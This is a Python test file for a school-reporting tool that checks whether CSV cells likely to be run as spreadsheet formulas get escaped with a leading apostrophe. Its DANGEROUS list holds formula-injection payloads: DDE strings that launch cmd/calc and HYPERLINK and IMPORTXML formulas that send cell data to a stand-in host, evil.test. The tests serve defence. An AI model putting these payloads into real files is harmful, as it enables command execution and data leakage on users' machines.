import csv as reader
import io
from string import digits

import pytest
from hypothesis import given
from hypothesis import strategies as st

from homeroom.facts import spreadsheet
from homeroom.reports import csv

DANGEROUS = [
    "=1+1",
    "+1+1",
    "-1+cmd",
    "@SUM(A1)",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "'=1",
    "'",
]
DANGEROUS += ['=HYPERLINK("https://evil.test/?"&A1,"x")']
DANGEROUS += ['=DDE("cmd";"/C calc";"x")', "@SUM(1+1)*cmd|' /C calc'!A0"]
DANGEROUS += ['=IMPORTXML("https://evil.test","//a")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=\u202e1+1"]
DANGEROUS += [" =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "  \u200d@x", "=cmd|' /C calc'!A0", " '=1", "\t", "-", "+1 2"]
HARMLESS = ["", " ", "Ana", "7/10", "-5", "+5", "-5.25", "12", "0012", "a=b", "O'Neil", "3.NF.A.1", "–"]


def test_there_are_enough_of_them_and_none_twice() -> None:
    assert len(set(DANGEROUS)) == len(DANGEROUS) >= 28


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_a_spreadsheet_might_run_is_led_by_an_apostrophe(text: str) -> None:
    assert spreadsheet.guarded(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_and_plain_numbers_are_left_alone(text: str) -> None:
    assert spreadsheet.guarded(text) == text


@given(st.text())
def test_no_cell_ever_begins_with_a_sign_of_a_formula(text: str) -> None:
    passed = "".join(map(chr, (sign for low, high in spreadsheet.PASSED_OVER for sign in range(low, high + 1))))
    bare = spreadsheet.guarded(text).lstrip(passed)
    assert bare[:1] not in ("=", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", "\0")
    assert bare[:1] not in ("+", "-") or set(bare[1:]) <= set(digits + ".")
    assert spreadsheet.guarded(text) in (text, "'" + text)


@given(
    st.lists(
        st.lists(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"])), min_size=2), max_size=5
    )
)
def test_a_file_reads_back_cell_by_cell(rows: list[list[str]]) -> None:
    text = "".join(csv.lines(["a", "b"], rows))
    assert text.startswith(csv.BOM + "a,b\r\n")
    read = list(reader.reader(io.StringIO(text.removeprefix(csv.BOM), newline="")))
    assert read[1:] == [[spreadsheet.guarded(cell) for cell in row] for row in rows]
